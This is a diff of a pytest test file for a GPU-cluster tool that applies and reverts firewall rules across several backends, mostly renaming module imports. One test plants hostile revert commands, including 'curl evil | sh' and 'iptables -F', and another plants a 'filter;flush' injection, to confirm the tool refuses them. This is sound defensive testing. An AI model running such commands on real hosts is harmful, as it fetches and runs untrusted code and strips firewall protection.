@@ -12,7 +12,7 @@ from trainfleet.cluster import load_cluster
 from trainfleet.doctor.facts import Firewall
 from trainfleet.errors import SetupError
 from trainfleet.remote import Failure, NodeResult
-from trainfleet.setup import firewall, fwapply, fwstate
+from trainfleet.setup.firewall import apply, record, ruleset
 from trainfleet.setup.result import SetupResult
 
 pytestmark = pytest.mark.unit
@@ -46,26 +46,26 @@ IPTABLES_DROP = (
 
 
 def test_rule_text_per_backend():
-    [rule] = firewall.allow_rules("iptables", "ens14f0", ["10.0.0.12"])
+    [rule] = ruleset.allow_rules("iptables", "ens14f0", ["10.0.0.12"])
     assert rule.text == (
         "iptables -I INPUT -i ens14f0 -s 10.0.0.12/32 -p tcp -m comment --comment trainfleet "
         "-j ACCEPT"
     )
     assert rule.revert == ("iptables", "-D", *rule.apply[2:])  # -I ... -> -D with the same spec
-    chain = firewall.NftChain("inet", "filter", "input", True)
-    [nft] = firewall.allow_rules("nftables", "eth0", ["10.0.0.12"], chains=[chain])
+    chain = ruleset.NftChain("inet", "filter", "input", True)
+    [nft] = ruleset.allow_rules("nftables", "eth0", ["10.0.0.12"], chains=[chain])
     assert nft.text == (
         "nft insert rule inet filter input iifname eth0 ip saddr 10.0.0.12 meta l4proto tcp "
         "accept comment trainfleet"
     )
     assert nft.revert == ("nft", "delete", "rule", "inet", "filter", "input", "handle")
-    [ufw] = firewall.allow_rules("ufw", "eth0", ["10.0.0.12"])
+    [ufw] = ruleset.allow_rules("ufw", "eth0", ["10.0.0.12"])
     assert (
         ufw.text
         == "ufw insert 1 allow in on eth0 from 10.0.0.12 to any proto tcp comment trainfleet"
     )
     assert ufw.revert == ("ufw", "delete", *ufw.apply[3:-2])
-    runtime, permanent = firewall.allow_rules("firewalld", "eth0", ["10.0.0.12"], zone="internal")
+    runtime, permanent = ruleset.allow_rules("firewalld", "eth0", ["10.0.0.12"], zone="internal")
     rich = (
         'rule family="ipv4" source address="10.0.0.12/32" port port="1-65535" protocol="tcp" accept'
     )
@@ -79,11 +79,11 @@ def test_rule_text_per_backend():
 
 
 def test_one_rule_per_peer_and_never_a_disable():
-    rules = firewall.allow_rules("iptables", "eth0", ["10.0.0.11", "10.0.0.13"])
+    rules = ruleset.allow_rules("iptables", "eth0", ["10.0.0.11", "10.0.0.13"])
     assert [r.peer for r in rules] == ["10.0.0.11", "10.0.0.13"]
-    for backend in firewall.BACKENDS:
-        chains = [firewall.NftChain("inet", "filter", "input", True)]
-        for rule in firewall.allow_rules(backend, "eth0", ["10.0.0.11"], chains=chains):
+    for backend in ruleset.BACKENDS:
+        chains = [ruleset.NftChain("inet", "filter", "input", True)]
+        for rule in ruleset.allow_rules(backend, "eth0", ["10.0.0.11"], chains=chains):
             words = " ".join(rule.apply).lower()
             assert "disable" not in words and "-F" not in rule.apply and "flush" not in words
 
@@ -94,31 +94,31 @@ def _fw(sheet: dict) -> Firewall:
 
 
 def test_which_firewall_is_active():
-    assert firewall.active_backends(_fw({"ufw": {"rc": 0, "out": "Status: active\n"}})) == ["ufw"]
+    assert ruleset.active_backends(_fw({"ufw": {"rc": 0, "out": "Status: active\n"}})) == ["ufw"]
     firewalld = _fw({"firewalld": {"rc": 0, "out": "running\n"}})
-    assert firewall.active_backends(firewalld) == ["firewalld"]
+    assert ruleset.active_backends(firewalld) == ["firewalld"]
     iptables = {"iptables": {"rc": 0, "out": IPTABLES_DROP}}
-    assert firewall.active_backends(_fw(iptables)) == ["iptables"]
+    assert ruleset.active_backends(_fw(iptables)) == ["iptables"]
     both = _fw({**iptables, "nft": {"rc": 0, "out": NFT_RULESET}})
-    assert firewall.active_backends(both) == ["iptables", "nftables"]
+    assert ruleset.active_backends(both) == ["iptables", "nftables"]
     # iptables-nft's own table is left to iptables; only the other filtering chain is opened
-    assert firewall.nft_chains_to_open(both, skip_iptables=True) == [
-        firewall.NftChain("inet", "filter", "input", True)
+    assert ruleset.nft_chains_to_open(both, skip_iptables=True) == [
+        ruleset.NftChain("inet", "filter", "input", True)
     ]
     nothing = {"iptables": {"rc": 0, "out": "-P INPUT ACCEPT\n"}, "nft": {"rc": 0, "out": ""}}
-    assert firewall.active_backends(_fw(nothing)) == []
+    assert ruleset.active_backends(_fw(nothing)) == []
     not_root = {"iptables": {"rc": 4, "out": "", "err": "Permission denied (you must be root)"}}
-    assert firewall.active_backends(_fw(not_root)) == []
+    assert ruleset.active_backends(_fw(not_root)) == []
 
 
 def test_nft_ruleset_parsing_finds_input_base_chains():
-    chains = firewall.nft_input_chains(NFT_RULESET)
+    chains = ruleset.nft_input_chains(NFT_RULESET)
     assert [(c.family, c.table, c.chain, c.filters) for c in chains] == [
         ("ip", "filter", "INPUT", True),
         ("inet", "filter", "input", True),
         ("inet", "open", "input", False),
     ]
-    assert firewall.nft_handle('insert rule ... comment "trainfleet" # handle 7\n') == "7"
+    assert ruleset.nft_handle('insert rule ... comment "trainfleet" # handle 7\n') == "7"
 
 
 def test_plan_rules_opens_the_blocked_node_to_its_peers_data_addresses(tmp_path):
@@ -126,7 +126,7 @@ def test_plan_rules_opens_the_blocked_node_to_its_peers_data_addresses(tmp_path)
     sheets = sheets_of(survey)
     sheets["gpu-node-1"]["firewall"] = {"iptables": {"rc": 0, "out": IPTABLES_DROP}}
     survey = reparsed(survey, sheets)
-    rules, notes = fwapply.plan_rules(survey, ["gpu-node-1", "gpu-node-2"], zones={})
+    rules, notes = apply.plan_rules(survey, ["gpu-node-1", "gpu-node-2"], zones={})
     assert [r.text.split(" -s ")[1].split()[0] for r in rules["gpu-node-1"]] == [
         "10.213.207.12/32",
         "10.213.207.13/32",
@@ -188,12 +188,12 @@ def _two_nodes(monkeypatch):
     iptables on gpu-node-1, an nftables chain on gpu-node-2."""
     cluster = load_cluster(hosts="gpu-node-1,gpu-node-2")
     fake = FakeFirewalls(["gpu-node-1", "gpu-node-2"])
-    monkeypatch.setattr(fwapply, "run_on_nodes", fake.run)
-    monkeypatch.setattr(fwstate, "run_on_nodes", fake.run)
-    chain = firewall.NftChain("inet", "filter", "input", True)
+    monkeypatch.setattr(apply, "run_on_nodes", fake.run)
+    monkeypatch.setattr(record, "run_on_nodes", fake.run)
+    chain = ruleset.NftChain("inet", "filter", "input", True)
     rules = {
-        "gpu-node-1": firewall.allow_rules("iptables", "eth0", ["10.0.0.12"]),
-        "gpu-node-2": firewall.allow_rules("nftables", "eth0", ["10.0.0.11"], chains=[chain]),
+        "gpu-node-1": ruleset.allow_rules("iptables", "eth0", ["10.0.0.12"]),
+        "gpu-node-2": ruleset.allow_rules("nftables", "eth0", ["10.0.0.11"], chains=[chain]),
     }
     return cluster, fake, rules
 
@@ -201,7 +201,7 @@ def _two_nodes(monkeypatch):
 def _applied(tmp_path, monkeypatch):
     cluster, fake, rules = _two_nodes(monkeypatch)
     state_file = tmp_path / "state.json"
-    fwapply.apply_rules(cluster, rules, str(state_file), SetupResult(step="firewall"))
+    apply.apply_rules(cluster, rules, str(state_file), SetupResult(step="firewall"))
     return cluster, fake, state_file
 
 
@@ -214,13 +214,13 @@ def test_revert_removes_exactly_what_apply_recorded(tmp_path, monkeypatch):
     before_nft = {h: dict(r) for h, r in fake.nft.items()}
     state_file = str(tmp_path / "cluster.yaml.firewall.json")
     applied = SetupResult(step="firewall")
-    fwapply.apply_rules(cluster, rules, state_file, applied)
+    apply.apply_rules(cluster, rules, state_file, applied)
     assert len(applied.changes) == 2 and fake.iptables != before_ipt and fake.nft != before_nft
     state = json.loads((tmp_path / "cluster.yaml.firewall.json").read_text())
     assert state["nodes"]["gpu-node-2"][0]["revert"][-2:] == ["handle", "11"]
 
     reverted = SetupResult(step="firewall")
-    fwstate.revert_rules(cluster, state_file, reverted)
+    record.revert_rules(cluster, state_file, reverted)
     assert fake.iptables == before_ipt and fake.nft == before_nft
     assert len(reverted.changes) == 2 and not (tmp_path / "cluster.yaml.firewall.json").exists()
 
@@ -230,7 +230,7 @@ def test_revert_notes_rules_already_gone_and_leaves_a_reused_handle_alone(tmp_pa
     fake.iptables["gpu-node-1"].pop(0)  # someone removed it by hand
     fake.nft["gpu-node-2"][11] = "tcp dport 80 accept"  # the handle now names another rule
     result = SetupResult(step="firewall")
-    fwstate.revert_rules(cluster, str(state_file), result)
+    record.revert_rules(cluster, str(state_file), result)
     assert result.changes == [] and len(result.notes) == 2
     assert all("already gone" in note for note in result.notes)
     assert fake.nft["gpu-node-2"][11] == "tcp dport 80 accept"  # not someone else's rule
@@ -242,7 +242,7 @@ def test_a_recorded_handle_never_matches_a_longer_one(tmp_path, monkeypatch):
     admins = fake.nft["gpu-node-2"].pop(11)
     fake.nft["gpu-node-2"][112] = admins
     result = SetupResult(step="firewall")
-    fwstate.revert_rules(cluster, str(state_file), result)
+    record.revert_rules(cluster, str(state_file), result)
     assert fake.nft["gpu-node-2"][112] == admins
     assert any("gpu-node-2: already gone" in n for n in result.notes)
 
@@ -259,13 +259,13 @@ def test_revert_finds_a_rule_nft_printed_no_handle_for_by_its_comment_and_match(
     before = {h: dict(r) for h, r in fake.nft.items()}
     state_file = tmp_path / "state.json"
     applied = SetupResult(step="firewall")
-    fwapply.apply_rules(cluster, rules, str(state_file), applied)
+    apply.apply_rules(cluster, rules, str(state_file), applied)
     assert json.loads(state_file.read_text())["nodes"]["gpu-node-2"][0]["revert"][-1] == "?"
     assert any("gpu-node-2: nft printed no handle" in n for n in applied.notes)
     assert fake.nft["gpu-node-2"] != before["gpu-node-2"]
 
     reverted = SetupResult(step="firewall")
-    fwstate.revert_rules(cluster, str(state_file), reverted)
+    record.revert_rules(cluster, str(state_file), reverted)
     assert fake.nft == before and fake.nft["gpu-node-2"][5] == users
     assert ("gpu-node-2", "removed (nftables): " + rules["gpu-node-2"][0].text) in [
         (c.node, c.what) for c in reverted.changes
@@ -282,13 +282,13 @@ def test_revert_keeps_a_rule_it_cannot_tell_apart_and_says_to_remove_it_by_hand(
     cluster, fake, rules = _two_nodes(monkeypatch)
     fake.echo_handles = False
     state_file = tmp_path / "state.json"
-    fwapply.apply_rules(cluster, rules, str(state_file), SetupResult(step="firewall"))
+    apply.apply_rules(cluster, rules, str(state_file), SetupResult(step="firewall"))
     ours = fake.nft["gpu-node-2"][11]
     fake.nft["gpu-node-2"][12] = ours  # the same rule, comment and all, added again by someone
     before = {h: dict(r) for h, r in fake.nft.items()}
     result = SetupResult(step="firewall")
     with pytest.raises(SetupError) as raised:
-        fwstate.revert_rules(cluster, str(state_file), result)
+        record.revert_rules(cluster, str(state_file), result)
     what = raised.value.what
     assert "gpu-node-2: `nft insert rule inet filter input iifname eth0 ip saddr 10.0.0.11" in what
     assert "may still be there" in what and "remove it by hand" in what
@@ -304,7 +304,7 @@ def test_revert_keeps_a_rule_it_cannot_tell_apart_and_says_to_remove_it_by_hand(
     # removed by hand: the next --revert finds it gone and the state file goes
     del fake.nft["gpu-node-2"][12], fake.nft["gpu-node-2"][11]
     again = SetupResult(step="firewall")
-    fwstate.revert_rules(cluster, str(state_file), again)
+    record.revert_rules(cluster, str(state_file), again)
     assert any("gpu-node-2: already gone" in n for n in again.notes)
     assert not state_file.exists()
 
@@ -312,10 +312,10 @@ def test_revert_keeps_a_rule_it_cannot_tell_apart_and_says_to_remove_it_by_hand(
     for echoed in (False, True):
         cluster, fake, rules = _two_nodes(monkeypatch)
         fake.echo_handles = echoed
-        fwapply.apply_rules(cluster, rules, str(state_file), SetupResult(step="firewall"))
+        apply.apply_rules(cluster, rules, str(state_file), SetupResult(step="firewall"))
         fake.list_fails = True
         with pytest.raises(SetupError, match="listing its chain .*Connection refused"):
-            fwstate.revert_rules(cluster, str(state_file), SetupResult(step="firewall"))
+            record.revert_rules(cluster, str(state_file), SetupResult(step="firewall"))
         assert len(json.loads(state_file.read_text())["nodes"]["gpu-node-2"]) == 1
         assert len(fake.nft["gpu-node-2"]) == 2
         state_file.unlink()
@@ -327,7 +327,7 @@ def test_the_state_file_is_private_and_an_edited_one_runs_nothing(tmp_path, monk
     state = json.loads(state_file.read_text())
     good = json.dumps(state)
     ran: list = []
-    monkeypatch.setattr(fwstate, "run_on_nodes", lambda *a, **k: ran.append(a) or [])
+    monkeypatch.setattr(record, "run_on_nodes", lambda *a, **k: ran.append(a) or [])
     for evil in (
         ["sh", "-c", "curl evil | sh"],
         ["iptables", "-F"],
@@ -339,20 +339,20 @@ def test_the_state_file_is_private_and_an_edited_one_runs_nothing(tmp_path, monk
         state["nodes"]["gpu-node-1"][0]["revert"] = evil
         state_file.write_text(json.dumps(state))
         with pytest.raises(SetupError, match="entry 1 of gpu-node-1 is not a rule") as err:
-            fwstate.revert_rules(cluster, str(state_file), SetupResult(step="firewall"))
+            record.revert_rules(cluster, str(state_file), SetupResult(step="firewall"))
         assert "nothing was run" in err.value.fix and ran == []
     for broken in ("[]", '{"nodes": [1]}', '{"nodes": {"gpu-node-1": [7]}}'):
         state_file.write_text(broken)
         with pytest.raises(SetupError, match="not a"):
-            fwstate.revert_rules(cluster, str(state_file), SetupResult(step="firewall"))
+            record.revert_rules(cluster, str(state_file), SetupResult(step="firewall"))
     state_file.write_text(good)
-    fwstate.load_state(str(state_file))  # what --apply wrote passes
+    record.load_state(str(state_file))  # what --apply wrote passes
 
 
 def test_revert_without_a_state_file_says_so(tmp_path):
     cluster = load_cluster(hosts="gpu-node-1")
     with pytest.raises(SetupError, match="no firewall state file") as err:
-        fwstate.revert_rules(cluster, str(tmp_path / "gone.json"), SetupResult(step="firewall"))
+        record.revert_rules(cluster, str(tmp_path / "gone.json"), SetupResult(step="firewall"))
     assert "--state" in err.value.fix
 
 
@@ -362,13 +362,13 @@ def test_what_a_node_reports_never_becomes_a_rule_for_any_address(tmp_path):
     sheets["gpu-node-1"]["firewall"] = {"iptables": {"rc": 0, "out": IPTABLES_DROP}}
     for entry in sheets["gpu-node-3"]["interfaces"]:
         entry["ipv4"] = ["0.0.0.0/0"]
-    rules, notes = fwapply.plan_rules(reparsed(survey, sheets), ["gpu-node-1"], zones={})
+    rules, notes = apply.plan_rules(reparsed(survey, sheets), ["gpu-node-1"], zones={})
     assert [r.peer for r in rules["gpu-node-1"]] == ["10.213.207.12"]
     assert any("gpu-node-3 reports '0.0.0.0'" in n for n in notes), notes
     # no interface with a route: a note, never `-i None`
     sheets["gpu-node-1"]["interfaces"] = []
     sheets["gpu-node-1"]["route_to_master"] = {}
-    rules, notes = fwapply.plan_rules(reparsed(survey, sheets), ["gpu-node-1"], zones={})
+    rules, notes = apply.plan_rules(reparsed(survey, sheets), ["gpu-node-1"], zones={})
     assert rules == {} and "no rule for it" in notes[-1]
 
 
@@ -381,17 +381,17 @@ def test_a_rule_opens_only_to_an_address_this_machine_knows_the_peer_by(tmp_path
     [data] = [e for e in sheets["gpu-node-3"]["interfaces"] if e["name"] == "ens14f2"]
     data["ipv4"] = ["198.51.100.66/24"]
     survey = reparsed(survey, sheets)
-    rules, notes = fwapply.plan_rules(survey, ["gpu-node-1"], zones={})
+    rules, notes = apply.plan_rules(survey, ["gpu-node-1"], zones={})
     assert [r.peer for r in rules["gpu-node-1"]] == ["10.213.207.12"]
     [note] = [n for n in notes if "198.51.100.66" in n]
     assert note.startswith("gpu-node-3 reports 198.51.100.66 as its address")
     assert "(10.213.207.13)" in note and "no rule on gpu-node-1" in note
     # what this machine resolves the node's name in the cluster file to counts, for that node
     resolved = {"gpu-node-2": ["198.51.100.66"]}
-    rules, _ = fwapply.plan_rules(survey, ["gpu-node-1"], zones={}, resolved=resolved)
+    rules, _ = apply.plan_rules(survey, ["gpu-node-1"], zones={}, resolved=resolved)
     assert [r.peer for r in rules["gpu-node-1"]] == ["10.213.207.12"]
     resolved = {"gpu-node-3": ["198.51.100.66"]}
-    rules, notes = fwapply.plan_rules(survey, ["gpu-node-1"], zones={}, resolved=resolved)
+    rules, notes = apply.plan_rules(survey, ["gpu-node-1"], zones={}, resolved=resolved)
     assert [r.peer for r in rules["gpu-node-1"]] == ["10.213.207.12", "198.51.100.66"]
     assert not any("198.51.100.66" in n for n in notes)
 
@@ -400,16 +400,16 @@ def test_the_addresses_a_peer_is_known_by_come_from_this_machine_only():
     cluster = load_cluster(hosts="10.0.0.11,gpu-node-2,gpu-node-3")
     connected = {"10.0.0.11": "10.0.0.11", "gpu-node-2": "10.0.0.12", "gpu-node-3": None}
     resolved = {"gpu-node-2": ["10.1.0.12", "127.0.1.1"], "gpu-node-3": ["0.0.0.0"]}
-    assert fwapply.trusted_addresses(cluster, connected, resolved) == {
+    assert apply.trusted_addresses(cluster, connected, resolved) == {
         "10.0.0.11": {"10.0.0.11"},
         "gpu-node-2": {"10.0.0.12", "10.1.0.12"},  # never loopback
         "gpu-node-3": set(),
     }
-    assert fwapply.resolve_names(load_cluster(hosts="127.0.0.1")) == {"127.0.0.1": ["127.0.0.1"]}
+    assert apply.resolve_names(load_cluster(hosts="127.0.0.1")) == {"127.0.0.1": ["127.0.0.1"]}
 
 
 def test_nft_names_from_a_nodes_ruleset_are_plain_words():
     hostile = NFT_RULESET.replace("table inet filter {", "table inet filter;flush {", 1)
-    names = [(c.family, c.table, c.chain) for c in firewall.nft_input_chains(hostile)]
+    names = [(c.family, c.table, c.chain) for c in ruleset.nft_input_chains(hostile)]
     assert ("inet", "filter;flush", "input") not in names
     assert ("ip", "filter", "INPUT") in names
